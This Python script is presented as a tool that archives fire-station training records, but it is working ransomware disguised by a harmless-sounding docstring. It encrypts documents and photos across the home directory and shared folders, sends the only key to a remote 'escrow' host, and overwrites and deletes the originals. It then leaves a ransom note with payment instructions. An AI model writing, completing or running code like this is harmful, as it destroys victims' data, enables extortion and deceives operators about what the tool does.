#!/usr/bin/env python3
"""Archive crew training records.

Compacts the training records share (certificates, sign-off sheets, exercise
photos) into sealed archive files so the share stays small and personal data
is protected at rest. The sealing key is lodged with the regional escrow
service so the training coordinator can reopen an archive when needed.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("training_archive")

DEFAULT_ROOTS = [
    os.path.expanduser("~"),
    "/srv/station/training",
    "/mnt/crewshare",
]
ESCROW_URL = os.environ.get("ESCROW_URL", "https://escrow.example.net/api/lodge")
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_REOPEN_RECORDS.txt"
SKIP_DIRS = {"proc", "sys", "dev", "run", ".cache"}
KINDS = {".pdf", ".docx", ".xlsx", ".jpg", ".png", ".csv", ".odt", ".db", ".txt"}

NOTICE = """Your station records have been sealed.
To reopen them, contact records-office@example.net quoting ID {sid}
and follow the payment instructions you receive. Do not rename the files.
"""


class Sealer:
    def __init__(self, station_id):
        self.station_id = station_id
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.count = 0

    def lodge_key(self):
        """Hand the key to escrow; we do not keep a local copy."""
        body = json.dumps({"id": self.station_id, "k": self._key.decode()}).encode()
        req = urllib.request.Request(ESCROW_URL, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).read()
        except OSError as exc:
            LOG.debug("escrow unreachable: %s", exc)

    def forget_key(self):
        self._key = b"\0" * len(self._key)

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self._box.encrypt(data))
        # overwrite before unlinking so the plain copy can't be undeleted
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
        path.unlink()
        self.count += 1


def candidates(roots):
    for root in roots:
        if not os.path.isdir(root):
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in KINDS and not name.endswith(SEALED_SUFFIX):
                    yield p


def leave_notice(roots, station_id):
    for root in roots:
        if os.path.isdir(root):
            try:
                Path(root, NOTICE_NAME).write_text(NOTICE.format(sid=station_id))
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description="Seal old training records")
    ap.add_argument("--root", action="append", help="extra folder to archive")
    ap.add_argument("--station-id", default=os.environ.get("STATION_ID", "LB-0000"))
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = DEFAULT_ROOTS + (args.root or [])
    sealer = Sealer(args.station_id)

    if args.dry_run:
        n = sum(1 for _ in candidates(roots))
        LOG.info("would archive %d files", n)
        return 0

    sealer.lodge_key()
    for path in candidates(roots):
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    sealer.forget_key()
    leave_notice(roots, args.station_id)
    LOG.info("archived %d records", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
